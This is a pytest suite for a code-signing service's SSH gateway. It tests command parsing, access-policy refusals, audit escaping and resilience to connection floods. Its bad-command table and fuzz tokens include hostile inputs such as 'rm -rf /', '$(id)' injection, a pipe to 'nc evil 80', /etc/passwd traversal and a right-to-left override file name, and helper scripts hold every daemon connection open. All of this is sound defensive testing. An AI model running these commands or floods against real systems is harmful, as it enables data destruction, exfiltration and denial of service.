"""The SSH door: strict parsing of SSH_ORIGINAL_COMMAND and the gateway's error discipline
(non-zero exit, one line on stderr, nothing on stdout, never a traceback)."""

from __future__ import annotations

import contextlib
import os
import pwd
import re
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from signer import request
from tests.signer.conftest import MakeSigner, Signer, one_line_error

BAD_COMMANDS = [
    (b"", 64, "no command"),
    (b"bash", 64, "unknown command"),
    (b"scp -t /tmp", 64, "unknown command"),
    (b"sign --profile dev; rm -rf /", 64, "unknown option"),
    (b"sign --profile 'dev;id'", 64, "bad profile name"),
    (b"sign --profile $(id)", 64, "bad profile name"),
    (b"sign --profile `id`", 64, "bad profile name"),
    (b"sign --profile dev | nc evil 80", 64, "unknown option"),
    (b"sign --profile dev --format pem", 64, "--format must be one of cms, raw, authenticode"),
    (b"sign --profile dev --profile rsa", 64, "given twice"),
    (b"sign --format raw", 64, "--profile is required"),
    (b"sign --profile dev --name 'a\nb'", 64, "control"),
    (b"sign --profile dev --name 'a\x1b[2Jb'", 64, "control"),
    (b"sign --profile dev --name 'evil\xe2\x80\xaetxt.exe'", 64, "control"),
    (b"sign --profile dev --name \xff\xfe", 64, "not valid UTF-8"),
    (b"sign --profile dev --name '" + b"x" * 10_240 + b"'", 64, "longer than"),
    (b"sign --profile dev --name '" + b"x" * 300 + b"'", 65, "name longer than 255"),
    (b"sign --profile dev --name 'unterminated", 64, "cannot split"),
    (b"status 1234", 64, "bad request id"),
    (b"status ../../etc/passwd", 64, "bad request id"),
    (b"fetch", 64, "expects 1 argument"),
    (b"freeze Dev", 64, "bad profile name"),
    (b"unlock 123456", 64, "takes --share and --token NAME only"),
    (b"unlock --share --share", 64, "takes --share and --token NAME only"),
]


@pytest.mark.control("SGN-07")
@pytest.mark.parametrize(("command", "code", "text"), BAD_COMMANDS,
                         ids=[repr(c[0][:30]) for c in BAD_COMMANDS])
def test_bad_command_is_one_line_error_without_output(shared: Signer, command: bytes, code: int,
                                                      text: str) -> None:
    r = shared.gw(command, b"artifact")
    assert r.returncode == code
    assert text in one_line_error(r)


@pytest.mark.control("SGN-07")
def test_daemon_not_running_is_one_line_unavailable(make_signer: MakeSigner) -> None:
    s = make_signer(start=False)
    r = s.gw("sign --profile dev", b"data")
    assert r.returncode == 69
    assert "daemon is not running" in one_line_error(r)


@pytest.mark.control("SGN-02")
@pytest.mark.parametrize(("command", "kwargs", "code", "text"), [
    ("sign --profile nope", {}, 64, "unknown profile 'nope'"),
    ("sign --profile dev", {"client": "build2"}, 77, "'build2' is not allowed"),
    ("sign --profile dev", {"client": "intruder"}, 77, "unknown client 'intruder'"),
    ("sign --profile rawonly --format cms", {}, 77, "format 'cms' is not allowed"),
    ("requests", {}, 77, "not a command for a client"),
    ("freeze dev", {}, 77, "not a command for a client"),
    ("unlock", {}, 77, "not a command for a client"),
    ("sign --profile dev", {"custodian": "alice"}, 77, "not a command for a custodian"),
    ("sign --profile dev", {"client": None, "custodian": "build1"}, 77, "unknown custodian"),
])
def test_policy_refusals_are_one_line_and_audited(shared: Signer, command: str,
                                                 kwargs: dict[str, Any], code: int,
                                                 text: str) -> None:
    before = len(shared.events("deny"))
    r = shared.gw(command, b"artifact", **kwargs)
    assert r.returncode == code
    assert text in one_line_error(r)
    deny = shared.events("deny")
    assert len(deny) == before + 1 and deny[-1]["reason"].startswith(command.split()[0] + ":")


@pytest.mark.control("SGN-02")
def test_a_name_bound_to_an_account_only_works_from_that_account(make_signer: MakeSigner) -> None:
    """With `account`, the daemon checks the gateway's uid (SO_PEERCRED): another account in
    the socket's group cannot claim to be that custodian or client."""
    me = pwd.getpwuid(os.getuid()).pw_name
    s: Signer = make_signer(accounts={"alice": me, "bob": "nobody",
                                      "build2": "nobody"})
    assert s.gw("freeze dev", custodian="alice").returncode == 0
    r = s.gw("thaw dev", custodian="bob")
    assert r.returncode == 77
    assert "must connect through the account 'nobody'" in one_line_error(r)
    r = s.gw("sign --profile rawonly --format raw", b"x", client="build2")
    assert r.returncode == 77
    assert s.events("deny")[-1]["reason"] == f"sign: connected as uid {os.getuid()}, not nobody"


@pytest.mark.control("SGN-07")
def test_names_are_escaped_in_the_audit_log(signer: Signer) -> None:
    name = 'app "v1" é ✓ \\ {"seq": 99}'
    r = signer.gw(f"sign --profile dev --format raw --name {shlex.quote(name)}", b"x")
    assert r.returncode == 0, r.stderr
    raw = signer.audit_log.read_bytes()
    assert raw.isascii()
    (entry,) = signer.events("sign")
    assert entry["name"] == name
    show = signer.lab.signer("audit", "show", signer.audit_log)
    assert show.returncode == 0 and len(show.stdout.splitlines()) == len(raw.splitlines())


# --- the parser, exhaustively --------------------------------------------------------------

_shellish = st.text(alphabet=st.sampled_from(list("ab -'\"\\\t\r\n\xa0\u2003\x0b\x0c#;$é")),
                    max_size=40)


@settings(max_examples=1000, deadline=None)
@given(_shellish | st.text(max_size=40))
def test_the_split_is_shlexs(text: str) -> None:
    """request.split (shlex only for quotes and backslashes) splits as shlex.split does, and
    fails where it fails."""
    try:
        want: list[str] | None = shlex.split(text, comments=False, posix=True)
    except ValueError:
        want = None
    try:
        got: list[str] | None = request.split(text)
    except ValueError:
        got = None
    assert got == want


@settings(max_examples=1000, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("az09_-AZ.é٣\n ")), max_size=70)
       | st.sampled_from(["a" * 64, "a" * 65, "0" * 32, "f" * 32, "0" * 31, "1" * 16,
                          "1" * 17, "0", "01", "a\n", "٣"]))
def test_the_name_id_and_size_rules_are_their_patterns(tok: str) -> None:
    """The set-based checks (no `re` at the gateway's start-up) accept what the patterns
    accept, exactly."""
    assert request.is_name(tok) == bool(re.fullmatch(request.PROFILE_PATTERN, tok))
    assert request.is_id(tok) == bool(re.fullmatch(request.ID_PATTERN, tok))
    assert request.is_size(tok) == bool(re.fullmatch(request.SIZE_PATTERN, tok))


@pytest.mark.control("SGN-07")
@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=600) | st.text(max_size=300).map(str.encode))
def test_parser_accepts_or_refuses_cleanly_any_bytes(raw: bytes) -> None:
    try:
        cmd = request.parse(raw)
    except request.ParseError as exc:
        assert exc.code in (64, 65)
        return
    assert request.from_wire(request.to_wire(cmd)) == cmd


_token = st.sampled_from(["sign", "status", "fetch", "approve", "freeze", "thaw", "requests",
                          "unlock", "--share", "--profile", "--format", "--name", "dev", "cms", "raw",
                          "0" * 32, ";", "|", "$(id)", "'", '"', "\\", "\n", "\x00", "é",
                          "\u202e"])


@pytest.mark.control("SGN-07")
@settings(max_examples=400, deadline=None)
@given(st.lists(_token | st.text(max_size=8), max_size=8),
       st.text(max_size=40))
def test_parsed_sign_requests_only_carry_clean_values(tokens: list[str], name: str) -> None:
    raw = " ".join([*tokens, "--name", shlex.quote(name)]).encode()
    try:
        cmd = request.parse(raw)
    except request.ParseError:
        return
    if isinstance(cmd, request.Sign):
        assert re.fullmatch(request.PROFILE_PATTERN, cmd.profile)
        assert cmd.format in ("cms", "raw")
        assert not any(c in cmd.name for c in "\n\r\x00\x1b\u2028\u202e")


def test_unlock_share_is_a_flag_that_reaches_the_daemon_only_when_given() -> None:
    plain, share = request.parse(b"unlock"), request.parse(b"unlock --share")
    assert (plain, share) == (request.Unlock(), request.Unlock(share=True))
    assert request.to_wire(plain) == {"cmd": "unlock"}  # as before: older daemons understand
    assert request.to_wire(share) == {"cmd": "unlock", "share": True}
    assert request.from_wire(request.to_wire(share)) == share
    with pytest.raises(request.ParseError, match="bad share"):
        request.from_wire({"cmd": "unlock", "share": "yes"})
    # a card's PIN (signer/cards.py): --token NAME, in either order with --share
    card = request.parse(b"unlock --token card --share")
    assert card == request.parse(b"unlock --share --token card") == \
        request.Unlock(share=True, token="card")
    assert request.to_wire(card) == {"cmd": "unlock", "share": True, "token": "card"}
    assert request.from_wire(request.to_wire(card)) == card
    for bad in (b"unlock --token", b"unlock --token Card", b"unlock --share --share",
                b"unlock --token a --token b", b"unlock now"):
        with pytest.raises(request.ParseError, match="unlock: "):
            request.parse(bad)
    with pytest.raises(request.ParseError, match="bad token"):
        request.from_wire({"cmd": "unlock", "token": "../x"})


def test_timestamped_is_a_flag_that_reaches_the_daemon_only_when_given() -> None:
    plain = request.parse(b"sign --profile dev --format cms --size 5")
    stamped = request.parse(b"sign --profile dev --timestamped --format cms --size 5")
    assert isinstance(plain, request.Sign) and isinstance(stamped, request.Sign)
    assert (plain.timestamped, stamped.timestamped) == (False, True)
    assert "timestamped" not in request.to_wire(plain)  # older daemons understand it
    assert request.to_wire(stamped)["timestamped"] is True
    assert request.from_wire(request.to_wire(stamped)) == stamped
    for bad in (b"sign --profile dev --timestamped --timestamped",
                b"sign --profile dev --timestamped=yes"):
        with pytest.raises(request.ParseError):
            request.parse(bad)
    with pytest.raises(request.ParseError, match="bad timestamped"):
        request.from_wire({"cmd": "sign", "profile": "dev", "format": "cms", "name": "",
                           "size": 5, "timestamped": 1})


def test_unknown_wire_fields_and_bad_values_are_refused_by_the_daemon_side() -> None:
    with pytest.raises(request.ParseError):
        request.from_wire({"cmd": "sign", "profile": "dev", "format": "pem", "name": ""})
    with pytest.raises(request.ParseError):
        request.from_wire({"cmd": "sign", "profile": "dev", "format": "raw", "name": "a\nb"})
    with pytest.raises(request.ParseError):
        request.from_wire({"cmd": "shell"})


def test_gateway_reads_only_the_socket_from_the_config(shared: Signer, tmp_path: Path) -> None:
    """The gateway account may not read the whole config; a config it cannot parse is one
    line too."""
    bad = tmp_path / "bad.toml"
    bad.write_text("[daemon\n")
    env = {"SSH_ORIGINAL_COMMAND": "sign --profile dev --size 4"}
    r = shared.lab.signer("gateway", "--client", "build1", "--config", bad, env=env)
    assert r.returncode == 78
    one_line_error(r)


@pytest.mark.control("SGN-07")
def test_daemon_dying_mid_upload_leaves_stdout_empty(make_signer: MakeSigner) -> None:
    """The gateway writes a signature only from a complete reply: a daemon killed while the
    artifact streams in gives one line on stderr and nothing on stdout."""
    import signal
    import subprocess
    import sys
    import threading
    import time

    s: Signer = make_signer(profile_overrides={"dev": {"max_size": 1 << 30}})
    env = dict(s.lab.env)
    env["SSH_ORIGINAL_COMMAND"] = f"sign --profile dev --format raw --size {1 << 30}"
    gw = subprocess.Popen([sys.executable, "-m", "signer", "gateway", "--client", "build1",
                           "--config", str(s.config)], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    assert gw.stdin is not None and gw.stdout is not None and gw.stderr is not None
    stdin = gw.stdin  # narrowed: the closure below does not see the assert

    def feed() -> None:
        try:
            for _ in range(400):
                stdin.write(b"\0" * (1 << 20))
                time.sleep(0.005)
        except (BrokenPipeError, ValueError):
            pass
        finally:
            try:
                stdin.close()
            except BrokenPipeError:
                pass

    feeder = threading.Thread(target=feed)
    feeder.start()
    time.sleep(0.5)
    s.stop(signal.SIGKILL)
    feeder.join(timeout=60)
    out, err = gw.stdout.read(), gw.stderr.read()
    gw.wait(timeout=60)
    assert gw.returncode == 69
    assert out == b""
    assert err.count(b"\n") == 1 and b"Traceback" not in err
    assert b"nothing was signed" in err


@pytest.mark.control("SGN-07")
@pytest.mark.parametrize("size", [1000, 300_000])
def test_a_stream_shorter_than_its_declared_size_is_not_signed(signer: Signer, size: int
                                                               ) -> None:
    """An SSH session cut mid-upload: stdin ends early. With the size declared (`signer
    submit` always declares it) the gateway refuses; nothing is signed or logged as signed."""
    data = os.urandom(size)
    r = signer.gw(f"sign --profile dev --format raw --size {size}", data[: size // 2])
    assert r.returncode == 65 and "declared" in one_line_error(r)
    r = signer.gw(f"sign --profile dev --format raw --size {size}", data + b"x")
    assert r.returncode == 65
    assert signer.events("sign") == []
    r = signer.gw(f"sign --profile dev --format raw --size {size}", data)
    assert r.returncode == 0, r.stderr
    assert signer.events("sign")[-1]["size"] == size


@pytest.mark.control("SGN-07")
def test_a_sign_without_a_declared_size_is_refused_and_a_cut_stream_never_signs(
        signer: Signer) -> None:
    """An SSH connection cut while the artifact streams ends stdin early: without a declared
    size the prefix looked like a whole artifact and was signed and logged. `sign` now needs
    `--size` (the gateway says how), and the daemon refuses a header without it (a gateway
    that does not send it)."""
    import io

    from signer import gateway, wire

    prefix = os.urandom(300_000)[:150_000]  # what arrived before the cut
    r = signer.gw("sign --profile dev --format raw", prefix, declare_size=False)
    assert r.returncode == 64
    message = one_line_error(r)
    assert "--size BYTES is required" in message and "stat -c %s FILE" in message, message
    header = {"v": wire.VERSION, "role": "client", "caller": "build1", "cmd": "sign",
              "profile": "dev", "format": "raw", "name": ""}
    with gateway.connect(signer.socket) as sock:
        code, message, out = gateway.exchange(sock, header, io.BytesIO(prefix), None)
    assert (code, out) == (64, b"") and "--size" in message, message
    assert signer.events("sign") == []
    r = signer.gw("sign --profile dev --format raw", prefix)  # declared: signed
    assert r.returncode == 0, r.stderr
    assert [e["size"] for e in signer.events("sign")] == [len(prefix)]


@pytest.mark.control("SGN-07")
def test_custodians_are_heard_while_build_clients_hold_every_slot(make_signer: MakeSigner) -> None:
    """Slow build-client sessions (a valid header, then one byte a second) as many as the
    daemon lets in and more, plus silent connections that never send a header: while all of
    them are still connected, a custodian's `freeze` and `requests` answer."""
    import socket
    import threading

    from signer import daemon, wire

    signer: Signer = make_signer(profile_overrides={"dev": {"clients": ["build1", "build2"]}})

    stop = threading.Event()
    held: list[socket.socket] = []
    trickling: list[threading.Thread] = []

    def slow_sign(client: str) -> None:
        sock = socket.socket(socket.AF_UNIX)
        sock.connect(str(signer.socket))
        held.append(sock)
        f = sock.makefile("rb")
        sock.sendall(wire.line({"v": wire.VERSION, "role": "client", "caller": client,
                                "cmd": "sign", "profile": "dev", "format": "raw", "name": "",
                                "size": 1000}))
        if wire.read_line(f).get("continue") is not True:
            return  # refused at once (busy): that is the point
        trickling.append(threading.current_thread())
        while not stop.wait(1.0):
            sock.sendall(wire.frame_header(1) + b"x")

    threads = [threading.Thread(target=slow_sign, args=(c,), daemon=True)
               for c in ("build1", "build2") for _ in range(daemon.PER_CLIENT + 4)]
    for t in threads:
        t.start()
    for _ in range(16):
        silent = socket.socket(socket.AF_UNIX)
        silent.connect(str(signer.socket))
        held.append(silent)
    try:
        for _ in range(100):  # wait until the abusers are in (no timing assert: a bound)
            if len(trickling) >= 2 * daemon.PER_CLIENT:
                break
            stop.wait(0.1)
        r = signer.lab.gateway(signer.config, "freeze dev", client=None, custodian="alice",
                               timeout=30)
        assert r.returncode == 0, r.stderr
        r = signer.lab.gateway(signer.config, "requests", client=None, custodian="bob",
                               timeout=30)
        assert r.returncode == 0, r.stderr
        # the abusers were connected and trickling the whole time
        assert len(trickling) >= 2 * daemon.PER_CLIENT
        assert all(t.is_alive() for t in trickling)
    finally:
        stop.set()
        for sock in held:
            sock.close()
    assert signer.events("freeze")[-1]["custodian"] == "alice"


# A build client's account holding connections: N of them, each with a header begun and never
# finished; prints how many it opened, then holds them until its stdin closes. (The system's
# python: the test's virtual environment may not be readable by the flooding accounts.)
_HOLD = """
import socket, sys
held = []
for _ in range(int(sys.argv[2])):
    s = socket.socket(socket.AF_UNIX)
    s.connect(sys.argv[1])
    s.sendall(b'{"v": 1, "role": "client", "caller": "build1"')
    held.append(s)
print(len(held), flush=True)
sys.stdin.read()
"""
# One more connection from another account: what the daemon answers at once (if anything).
OUTSIDER_PROBE = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.settimeout(2.0)
try:
    print(s.recv(4096).decode(errors="replace"))
except TimeoutError:
    print("no answer")
"""


@contextlib.contextmanager
def _flooded(make_signer: MakeSigner, **daemon_kw: Any) -> Iterator[tuple[Signer, Any]]:
    """A daemon whose custodians alice and bob are bound to this test's own account, and four
    build client accounts holding 64 connections each (headers never finished): every
    connection the daemon lets clients have, as a fifth account's refusal (`probe()`) shows.
    Yields (the signer, probe); checks on the way out that the flood held all along, and
    stops the daemon."""
    import shutil
    import subprocess
    import tempfile
    import time

    from signer import daemon

    python = shutil.which("python3", path="/usr/bin:/bin")
    assert python is not None
    flooders = [pwd.getpwnam(a).pw_uid for a in ("daemon", "bin", "sys", "sync")]
    outsider = pwd.getpwnam("games").pw_uid
    assert len(flooders) * daemon.MAX_PER_UID == daemon.MAX_CONNECTIONS
    # The socket where those accounts can reach it: a directory they may search, the socket's
    # group (0660, root's group) theirs for this test.
    where = Path(tempfile.mkdtemp(prefix="signer-flood-", dir="/tmp"))
    where.chmod(0o755)
    sock = where / "signer.sock"
    me = pwd.getpwuid(os.getuid()).pw_name
    signer: Signer = make_signer(accounts={"alice": me, "bob": me}, socket=str(sock),
                                 **daemon_kw)
    holders: list[subprocess.Popen[str]] = []
    try:
        for uid in flooders:
            holders.append(subprocess.Popen(
                [python, "-I", "-c", _HOLD, str(sock), str(daemon.MAX_PER_UID)],
                user=uid, group=0, extra_groups=[], stdin=subprocess.PIPE,
                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/"))
        for h in holders:
            assert h.stdout is not None
            assert h.stdout.readline().strip() == str(daemon.MAX_PER_UID), h.stderr
        started = time.monotonic()

        def probe() -> str:
            r = subprocess.run([python, "-I", "-c", OUTSIDER_PROBE, str(sock)], user=outsider,
                               group=0, extra_groups=[], capture_output=True, text=True,
                               timeout=30, cwd="/")
            return r.stdout + r.stderr

        assert "too many connections" in probe()  # the clients hold every connection
        yield signer, probe
        assert "too many connections" in probe()  # the flood held all along
        assert all(h.poll() is None for h in holders)
        assert time.monotonic() - started < daemon.HEADER_TIMEOUT, "flood reaped: too slow"
    finally:
        for h in holders:
            h.kill()
            h.wait()
        signer.stop()
        shutil.rmtree(where, ignore_errors=True)


@pytest.mark.control("SGN-07")
def test_custodians_are_heard_while_client_accounts_hold_every_connection(
        make_signer: MakeSigner) -> None:
    """Four build client accounts with 64 connections each (headers never finished): every
    connection the daemon lets clients have. A custodian bound to an account of their own
    (`account`) still has `freeze` answered in under 2 s, and `thaw`, `unlock` and `requests`
    too: their connections are in a lane of their own that SO_PEERCRED tells apart at accept.
    Before, the custodian got 69 "too many connections"."""
    import time

    from signer import daemon

    with _flooded(make_signer) as (signer, _probe):
        t0 = time.monotonic()
        r = signer.lab.gateway(signer.config, "freeze dev", client=None, custodian="alice",
                               timeout=30)
        took = time.monotonic() - t0
        assert r.returncode == 0, r.stderr
        assert took < 2.0, f"freeze took {took:.2f} s under the flood"
        for command, stdin in (("requests", b""), ("unlock", b"not-needed\n"),
                               ("thaw dev", b"")):
            r = signer.lab.gateway(signer.config, command, stdin, client=None,
                                   custodian="alice", timeout=30)
            assert r.returncode == 0, (command, r.stderr)
    assert [(e["event"], e["custodian"]) for e in signer.entries()
            if e["event"] in ("freeze", "thaw")] == [("freeze", "alice"), ("thaw", "alice")]
    print(f"custodian freeze under a flood of {daemon.MAX_CONNECTIONS} connections: "
          f"{took * 1000:.0f} ms")


@pytest.mark.control("SGN-07")
@pytest.mark.control("TOK-03")
def test_a_locked_daemon_is_unlocked_by_custodians_shares_under_a_flood(
        make_signer: MakeSigner) -> None:
    """Issue 24, point 5: the unlock itself, not its "already unlocked" answer. A daemon
    started locked (pin_source prompt, 2-of-4 shares) while every client connection is held:
    alice's and bob's `unlock --share` are answered, the second logs in, and a custodian's
    `freeze` still answers after."""
    from signer import shares

    with _flooded(make_signer, pin_source="prompt", pin_shares=2) as (signer, _probe):
        pin = signer.lab.pin_file.read_bytes().strip()
        made = shares.split(pin, 2, 4)
        r = signer.lab.gateway(signer.config, "unlock --share", made[0].line().encode(),
                               client=None, custodian="alice", timeout=30)
        assert r.returncode == 0 and b"1 of 2" in r.stderr, r.stderr
        r = signer.lab.gateway(signer.config, "unlock --share", made[1].line().encode(),
                               client=None, custodian="bob", timeout=30)
        assert r.returncode == 0, r.stderr
        assert r.stderr == b"signer: unlocked with the shares of alice, bob\n"
        r = signer.lab.gateway(signer.config, "freeze dev", client=None, custodian="alice",
                               timeout=30)
        assert r.returncode == 0, r.stderr
    assert [e.get("custodians") for e in signer.events("unlock")] == [["alice", "bob"]]


@pytest.mark.parametrize("text", [
    '[daemon]\nsocket = "/run/a.sock"\nsocket_group = "gw"\n[profiles.dev]\nsocket = "/x"\n',
    "[daemon]\nsocket = '/run/a.sock'\n",
    '[daemon]\nsocket = "/run/\\u0061.sock"\n',
    'daemon.socket = "/run/a.sock"\n',
    '[ daemon ] # the daemon\n  socket="/run/a.sock"  # here\n',
    '[daemon]\nnote = """\n[daemon]\nsocket = "/elsewhere"\n"""\nsocket = "/run/a.sock"\n',
])
def test_the_gateway_reads_the_socket_exactly_as_toml_does(tmp_path: Path, text: str) -> None:
    """The gateway's fast path for the plain `socket = "..."` line (tomllib is most of its
    start-up) gives what tomllib gives, or leaves the file to tomllib."""
    import tomllib

    from signer import gateway

    path = tmp_path / "signer.toml"
    path.write_text(text)
    assert gateway.socket_path(path, None) == tomllib.loads(text)["daemon"]["socket"]


# What the gateway must not import to answer one request: the daemon's and crypto modules,
# and the standard library's heavier ones (`re` brings `enum`, `functools`, `collections`).
HEAVY = {"argparse", "tomllib", "dataclasses", "typing", "pathlib", "logging", "pkcs11",
         "cryptography", "asn1crypto", "signer.daemon", "signer.config", "signer.audit",
         "signer.cli", "re", "json", "socket", "enum", "shlex", "selectors", "functools",
         "collections", "contextlib", "importlib.util", "runpy", "subprocess"}


def _loaded_by(argv: list[str], command: str) -> set[str]:
    """The modules a gateway run of `argv` (after the interpreter and -S) has loaded when it
    exits (the socket does not exist: it gets as far as connecting)."""
    import subprocess
    import sys

    probe = ("import atexit, sys\n"
             "atexit.register(lambda: print(' '.join(sorted(sys.modules))))\n")
    # -S: without site (the editable install's finder imports pathlib; a wheel's not)
    r = subprocess.run([sys.executable, "-S", "-c", probe + argv[0], *argv[1:]],
                       capture_output=True, text=True, check=False,
                       env={"SSH_ORIGINAL_COMMAND": command, "PATH": "/usr/bin:/bin"},
                       cwd=Path(__file__).parents[2])
    assert r.returncode == 69 and "not running" in r.stderr, r.stderr  # got to connect()
    return set(r.stdout.split())


@pytest.mark.parametrize("command", ["status " + "0" * 32,
                                     "sign --profile dev --name a.exe --size 10",
                                     "sign --profile dev --size 10 --format raw"])
def test_the_forced_command_starts_without_the_heavy_imports(command: str) -> None:
    """What the forced command the role writes imports to answer one request (start-up is
    the latency every SSH request pays): signer.gateway, request, wire, errors, and nothing
    of HEAVY."""
    from signer.gateway import FORCED_COMMAND_CODE

    loaded = _loaded_by([FORCED_COMMAND_CODE, "--client", "build1", "--socket",
                         "/nonexistent/signer.sock"], command)
    assert {"signer.gateway", "signer.request", "signer.wire"} <= loaded
    assert not HEAVY & loaded, sorted(HEAVY & loaded)


def test_signer_gateway_through_the_cli_stays_lean() -> None:
    """`signer gateway` (the command line, or an authorized_keys line written before the
    forced command changed) goes to the gateway's own parser before argparse: no argparse,
    tomllib (for the config the role renders), crypto or daemon modules."""
    cfg = Path(__file__).parent / "_gateway_probe.toml"
    try:
        cfg.write_text('[daemon]\nsocket = "/nonexistent/signer.sock"\nsocket_group = "gw"\n')
        loaded = _loaded_by(["from signer.cli import main; sys.exit(main(sys.argv[1:]))", "gateway",
                             "--client", "build1", "--config", str(cfg)], "status " + "0" * 32)
    finally:
        cfg.unlink()
    assert "signer.gateway" in loaded
    heavy = {"argparse", "tomllib", "dataclasses", "typing", "pathlib", "logging", "pkcs11",
             "cryptography", "asn1crypto", "signer.daemon", "signer.config", "signer.audit"}
    assert not heavy & loaded, sorted(heavy & loaded)


def test_the_role_writes_the_forced_command_the_gateway_documents() -> None:
    """roles/signer's signer_gateway_code is signer.gateway.FORCED_COMMAND_CODE (the posture
    tests compare the deployed lines with the same string)."""
    import yaml

    from signer.gateway import FORCED_COMMAND_CODE

    root = Path(__file__).parents[2]
    role_vars = yaml.safe_load((root / "roles/signer/vars/main.yml").read_text())
    assert role_vars["signer_gateway_code"] == FORCED_COMMAND_CODE
    for posture in ("test_signer.py", "test_signer_integrity.py"):
        text = (root / "tests/posture" / posture).read_text()
        assert f'GATEWAY_CODE = "{FORCED_COMMAND_CODE}"' in text, posture
